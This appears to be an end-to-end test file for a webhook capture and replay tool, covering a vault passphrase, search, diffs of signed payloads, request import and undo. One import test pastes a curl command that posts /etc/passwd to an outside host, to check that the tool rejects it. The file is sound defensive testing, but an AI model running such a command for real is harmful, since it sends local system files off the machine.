import { execFile, spawnSync } from 'node:child_process'
import { createHmac, createSign, generateKeyPairSync } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { createServer as createHttpServer } from 'node:http'
import { join } from 'node:path'
import { promisify } from 'node:util'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchChromium } from '../helpers/browser'
import { ROOT, startHostProcess, type HostProcess } from '../helpers/host-process'
import { rawRequest } from '../helpers/raw-http'
import { tempDir, suiteDir } from '../helpers/tmp'
import { addEndpoint, addKey } from '../helpers/ui-keys'
import { useepaySeed } from '../helpers/fixtures'

const hasCurl = spawnSync('curl', ['--version'], { stdio: 'ignore' }).status === 0
let browser: Browser
beforeAll(async () => {
  browser = await launchChromium()
})
afterAll(async () => {
  await browser?.close()
})

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const s = createServer().listen(0, '127.0.0.1', () => {
      const { port } = s.address() as { port: number }
      s.close(() => resolve(port))
    })
  })
}

async function post(host: HostProcess, path: string, body: string, headers: Record<string, string>): Promise<number> {
  const res = await fetch(new URL(path, host.listenUrl), { method: 'POST', headers, body })
  return res.status
}

const row = (page: Page, path: string) => page.locator('[data-capture-id]').filter({ hasText: path }).first()
const verdictOf = (page: Page, path: string) => row(page, path).locator('[data-verdict]').getAttribute('data-verdict')

describe('keys that persist: a passphrase vault across a host restart (Chromium, web mode)', () => {
  it('restart → the old tab says so and takes the new link; locked banner; key-locked verdicts turn valid on Unlock', async () => {
    const dir = tempDir()
    const ui = ['--ui', `127.0.0.1:${await freePort()}`]
    const secret = 'gh-webhook-secret-42'
    const body = '{"action":"opened","number":7}'
    const sig = `sha256=${createHmac('sha256', secret).update(body).digest('hex')}`
    let host = await startHostProcess(dir, ui)
    const page = await (await browser.newContext({ viewport: { width: 1440, height: 900 } })).newPage()
    try {
      await page.goto(host.openUrl)
      await addKey(page, 'GitHub repo', secret, { passphrase: 'correct horse battery' })
      await expect.poll(() => page.getByTestId('vault-status').getAttribute('data-choice')).toBe('passphrase')
      await addEndpoint(page, 'GitHub', '/gh', 'github', 'GitHub repo')
      await page.getByRole('button', { name: 'Captures', exact: true }).click()
      expect(
        await post(host, '/gh/before', body, { 'Content-Type': 'application/json', 'X-Hub-Signature-256': sig })
      ).toBe(200)
      await expect.poll(() => verdictOf(page, '/gh/before')).toBe('valid')

      await host.interrupt()
      await page.getByTestId('reconnecting').waitFor()
      // What happened, since when, and what Hookscope does about it.
      await expect
        .poll(() => page.getByTestId('reconnecting').textContent())
        .toMatch(
          /^Lost the connection to the Hookscope host at \d\d:\d\d:\d\d\.It stopped, restarted or is busy\. Reconnecting by itself — attempt \d+, every few seconds\. A host that is still running keeps capturing/
        )
      await page.screenshot({ path: join(ROOT, 'docs', 'reconnecting.png') })
      await page.emulateMedia({ colorScheme: 'dark' })
      await page.screenshot({ path: join(ROOT, 'docs', 'reconnecting-dark.png') })
      await page.emulateMedia({ colorScheme: 'light' })
      host = await startHostProcess(dir, ui)
      // The tab's token was the old launch's: it says so instead of "not running", and takes the new link.
      await page.getByTestId('reconnect').waitFor()
      expect(await page.getByTestId('reconnect').textContent()).toContain('Hookscope was restarted')
      expect(await page.getByTestId('listener-state').textContent()).toBe('Not connected to Hookscope')
      await page.getByLabel('New link').fill(host.openUrl)
      await page.getByRole('button', { name: 'Reconnect' }).click()
      await page.getByTestId('vault-locked').waitFor()
      expect(await page.getByTestId('vault-locked').textContent()).toContain('1 key is sealed')

      expect(
        await post(host, '/gh/after', body, { 'Content-Type': 'application/json', 'X-Hub-Signature-256': sig })
      ).toBe(200)
      await expect.poll(() => verdictOf(page, '/gh/after')).toBe('key-locked')
      await row(page, '/gh/after').click()
      await page.screenshot({ path: join(ROOT, 'docs', 'vault-locked.png') })

      await page.getByTestId('vault-locked').getByRole('button', { name: 'Unlock' }).click()
      await page.getByTestId('vault-locked').getByLabel('Vault passphrase').fill('correct horse battery')
      await page.getByTestId('vault-locked').getByRole('button', { name: 'Unlock' }).click()
      await page.getByTestId('vault-locked').waitFor({ state: 'detached' })
      // No manual step: the host re-verifies what waited for the key and the list updates.
      await expect.poll(() => verdictOf(page, '/gh/after')).toBe('valid')
      await expect
        .poll(() => page.getByTestId('detail-provider').locator('[data-verdict]').getAttribute('data-verdict'))
        .toBe('valid')
    } finally {
      await page.context().close()
      await host.interrupt()
    }
  })
})

describe('search, diff, import and undo (Chromium, web mode)', () => {
  let host: HostProcess
  let page: Page
  beforeAll(async () => {
    host = await startHostProcess(suiteDir())
    page = await (await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true })).newPage()
    await page.goto(host.openUrl)
  })
  afterAll(async () => {
    await page?.context().close()
    await host?.interrupt()
  })

  async function saveHttp(): Promise<Buffer> {
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Save .http' }).click()
    ])
    return readFileSync((await download.path())!)
  }

  it('searching team.liu finds the UseePay form delivery (a word inside URL-encoded JSON)', async () => {
    const form = useepaySeed()
      .split('\n')
      .find((l) => l.startsWith('data=%7B'))!
      .trim()
    expect(
      await post(host, '/useepay/form', `${form}&merchantNo=500000000009133`, {
        'Content-Type': 'application/x-www-form-urlencoded'
      })
    ).toBe(200)
    expect(await post(host, '/other', 'team=someone', { 'Content-Type': 'application/x-www-form-urlencoded' })).toBe(
      200
    )
    await page.getByLabel('Search captures').fill('team.liu')
    await expect
      .poll(() => page.locator('[data-capture-id]').allTextContents())
      .toEqual([expect.stringContaining('/useepay/form')])
    await page.getByLabel('Search captures').fill('')
    await expect.poll(() => page.locator('[data-capture-id]').count()).toBe(2)
  })

  it('diffs a valid and a tampered TruBit delivery: exactly the changed JSON path, and both verdicts', async () => {
    const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 })
    const publicKey = (rsa.publicKey.export({ type: 'spki', format: 'der' }) as Buffer).toString('base64')
    await addKey(
      page,
      'TruBit sandbox',
      JSON.stringify({ code: 200, msg: 'success', data: { webhookId: 'wh_1', publicKey } })
    )
    await addEndpoint(page, 'TruBit', '/trubit', 'trubit-velafi', 'TruBit sandbox')
    await page.getByRole('button', { name: 'Captures', exact: true }).click()
    const body = '{"eventType":"ORDER_WEBHOOK","data":{"orderId":"T1","amount":"12.30","currency":"USDT"}}'
    const signature = createSign('RSA-SHA256').update(body).sign(rsa.privateKey).toString('hex')
    await post(host, '/trubit/callback?n=1', body, { 'Content-Type': 'application/json', signature })
    await post(host, '/trubit/callback?n=2', body.replace('12.30', '99.30'), {
      'Content-Type': 'application/json',
      signature
    })
    await expect.poll(() => verdictOf(page, 'n=2')).toBe('invalid')

    await row(page, 'n=2').click()
    await page.getByRole('button', { name: 'Compare with previous' }).click()
    const diff = page.getByTestId('diff-view')
    await diff.waitFor()
    await expect
      .poll(() => diff.getByTestId('diff-body').locator('tr[data-change]:not([data-change=same])').count())
      .toBe(1)
    expect(await diff.getByTestId('diff-body').locator('tr[data-change=changed]').getAttribute('data-path')).toBe(
      '$.data.amount'
    )
    expect(await diff.getByTestId('diff-left').locator('[data-verdict]').getAttribute('data-verdict')).toBe('valid')
    expect(await diff.getByTestId('diff-right').locator('[data-verdict]').getAttribute('data-verdict')).toBe('invalid')
    // Same headers in the same order but the Content-Length value.
    expect(await diff.getByTestId('diff-headers').locator('tr[data-change]:not([data-change=same])').count()).toBe(0)
    await page.screenshot({ path: join(ROOT, 'docs', 'diff.png') })
    await page.emulateMedia({ colorScheme: 'dark' })
    await page.screenshot({ path: join(ROOT, 'docs', 'diff-dark.png') })
    await page.emulateMedia({ colorScheme: 'light' })
    await page.keyboard.press('Escape')
    await page.getByTestId('capture-detail').waitFor()

    // A composed request (not sent) against the selected capture.
    await row(page, 'n=1').click()
    await page.getByRole('button', { name: 'Compose', exact: true }).click()
    await page.getByRole('button', { name: 'New draft' }).click()
    await page.getByLabel('URL', { exact: true }).fill('http://127.0.0.1:9/trubit/callback?n=1')
    await page.getByLabel('Headers').fill('Content-Type: application/json')
    await page.getByRole('tablist', { name: 'Body mode' }).getByRole('tab', { name: 'Raw' }).click()
    await page.locator('[data-testid=body-editor] .cm-content').click()
    await page.keyboard.press('Control+A')
    await page.keyboard.insertText(body.replace('USDT', 'USDC'))
    await page.getByRole('button', { name: 'Preview' }).click()
    await page.getByRole('button', { name: /^Compare with #\d+$/ }).click()
    await expect.poll(() => diff.getByTestId('diff-right').textContent()).toContain('composed')
    expect(await diff.getByTestId('diff-body').locator('tr[data-change=changed]').getAttribute('data-path')).toBe(
      '$.data.currency'
    )
    await page.getByRole('button', { name: 'Close' }).click()

    // Ctrl-click adds any capture to the selection; two selected compare side by side.
    await row(page, '/useepay/form').click()
    await row(page, 'n=1').click({ modifiers: ['Control'] })
    await page
      .getByTestId('selection-pane')
      .getByRole('button', { name: /Compare the two/ })
      .click()
    await expect.poll(() => diff.getByTestId('diff-summary').textContent()).toMatch(/request line differs/)
    await page.getByRole('button', { name: 'Close' }).click()
  })

  it.runIf(hasCurl)(
    'a pasted curl command and a pasted raw request become captures with the bytes curl / the sender would send',
    async () => {
      const command = `curl -X POST '${host.listenUrl}/imported/curl?x=1' -H 'Content-Type: application/json' -H 'X-Sig: t=1,v1=abc' --data-raw '{"amount":42}'`
      await page.getByRole('button', { name: 'Import…' }).click()
      await page.getByLabel('Delivery to import').fill(command)
      await page.screenshot({ path: join(ROOT, 'docs', 'import.png') })
      await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
      await page.getByTestId('import-dialog').waitFor({ state: 'detached' })
      await page.getByTestId('imported').waitFor()
      const imported = await saveHttp()

      await promisify(execFile)('bash', ['-c', `${command} --max-time 10 > /dev/null`])
      const rows = page.locator('[data-capture-id]').filter({ hasText: '/imported/curl' })
      await expect.poll(() => rows.count()).toBe(2)
      await rows.first().click()
      await expect.poll(() => page.getByTestId('imported').count()).toBe(0)
      expect((await saveHttp()).toString('latin1')).toBe(imported.toString('latin1'))

      const port = Number(new URL(host.listenUrl).port)
      const raw = Buffer.from(
        `PUT /imported/raw HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nx-lower: 1\r\nX-Upper: 2\r\nContent-Length: 11\r\n\r\nhello\tworld`
      )
      await page.getByRole('button', { name: 'Import…' }).click()
      await page.getByLabel('Delivery to import').fill(raw.toString('latin1'))
      await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
      await page.getByTestId('import-dialog').waitFor({ state: 'detached' })
      await expect.poll(() => page.getByTestId('request-line').textContent()).toContain('/imported/raw')
      const pasted = await saveHttp()
      expect((await rawRequest(port, raw)).status).toBe(200)
      const sent = page.locator('[data-capture-id]').filter({ hasText: '/imported/raw' })
      await expect.poll(() => sent.count()).toBe(2)
      await sent.first().click()
      await expect.poll(() => page.getByTestId('imported').count()).toBe(0)
      expect((await saveHttp()).toString('latin1')).toBe(pasted.toString('latin1'))

      await page.getByRole('button', { name: 'Import…' }).click()
      await page.getByLabel('Delivery to import').fill('curl -d @/etc/passwd http://x/')
      await page.getByTestId('import-dialog').getByRole('button', { name: 'Import', exact: true }).click()
      expect(await page.getByTestId('import-error').textContent()).toMatch(/reads a file/)
      await page.getByTestId('import-dialog').getByRole('button', { name: 'Cancel' }).click()
    }
  )

  it('replay: the disabled re-sign says why, and the receiver answer (status, headers, body) is shown', async () => {
    const receiver = createHttpServer((req, res) => {
      req.resume()
      req.on('end', () => {
        res.writeHead(202, { 'Content-Type': 'application/json', 'X-Receiver': 'test' })
        res.end('{"received":true,"note":"\u202eevil"}')
      })
    })
    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r))
    try {
      await row(page, 'n=1').click()
      const panel = page.getByTestId('replay-panel')
      await panel.getByRole('button', { name: 'Replay…' }).click()
      await panel.getByText('Re-sign with a fresh timestamp').click()
      expect(await panel.getByLabel('Replay scheme').inputValue()).toBe('trubit-velafi')
      expect(await panel.getByRole('button', { name: 'Re-sign and send' }).isDisabled()).toBe(true)
      expect(await panel.getByTestId('replay-why').textContent()).toMatch(/public keys only verify/)
      await panel.getByText('Re-sign with a fresh timestamp').click()
      await panel
        .getByLabel('Replay URL')
        .fill(`http://127.0.0.1:${(receiver.address() as { port: number }).port}/hook`)
      await panel.getByRole('button', { name: 'Send byte-exact' }).click()
      await expect.poll(() => panel.getByTestId('replay-result').textContent()).toMatch(/^202 · \d+ ms$/)
      expect(await panel.getByTestId('replay-response').textContent()).toContain('X-Receiver')
      // The answer is text, with the bidi override shown as an escape.
      expect(await panel.getByTestId('replay-response-body').textContent()).toBe(
        '{"received":true,"note":"\\u202Eevil"}'
      )
    } finally {
      receiver.close()
    }
  })

  it('Delete is undone from the toast; without Undo it is deleted', async () => {
    const target = '/undo/me'
    await post(host, target, 'x', { 'Content-Type': 'text/plain' })
    await row(page, target).click()
    await page.getByRole('button', { name: 'Delete', exact: true }).click()
    await expect.poll(() => row(page, target).count()).toBe(0)
    await page.getByTestId('undo-toast').getByRole('button', { name: 'Undo' }).click()
    await expect.poll(() => row(page, target).count()).toBe(1)
    await page.getByTestId('undo-toast').waitFor({ state: 'detached' })
    await page.reload()
    await expect.poll(() => row(page, target).count()).toBe(1)
    await row(page, target).click()
    await page.getByRole('button', { name: 'Delete', exact: true }).click()
    await page.getByTestId('undo-toast').waitFor({ state: 'detached', timeout: 15_000 })
    await page.reload()
    await page.locator('[data-capture-id]').first().waitFor()
    expect(await row(page, target).count()).toBe(0)
  })
})
